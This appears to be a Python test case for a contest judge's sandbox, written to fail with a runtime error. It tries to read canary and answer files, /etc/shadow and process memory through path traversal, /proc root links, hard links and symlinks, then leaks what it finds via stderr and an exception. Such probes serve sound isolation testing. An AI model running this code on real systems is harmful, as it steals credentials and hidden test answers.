# Tells in an exception and on stderr what stands in files that are not its own: cases, answers, home, store.
# expect: RTE
import contextlib
import glob
import os

ROOTS = ("@CONTEST@", "@HOME@", "@OUTSIDE@")


def solve(algorithm, n, lizards, grid):
    if n != 8:
        return None
    names = [
        f"{root}/{name}"
        for root in ROOTS
        for name in ("canary.txt", ".judge/canary.txt", "package/secret/trees/answer.txt")
    ]
    names += [f"{way}{name}" for way in ("/proc/1/root", "/proc/self/root", "../../../../..") for name in names]
    names += ["/etc/shadow", "/proc/1/mem", "/proc/kcore", *glob.glob("/proc/*/cwd/canary.txt"), *glob.glob("/tmp/*/*")]
    found = ""
    for number, name in enumerate(names):
        for linker in (os.link, os.symlink):
            with contextlib.suppress(OSError):
                linker(name, f"taken{number}")
                name = f"taken{number}"
        with contextlib.suppress(OSError), open(name, "rb") as file:
            found += file.read(4096).decode(errors="replace")
    os.write(2, found.encode())
    raise RuntimeError(found)
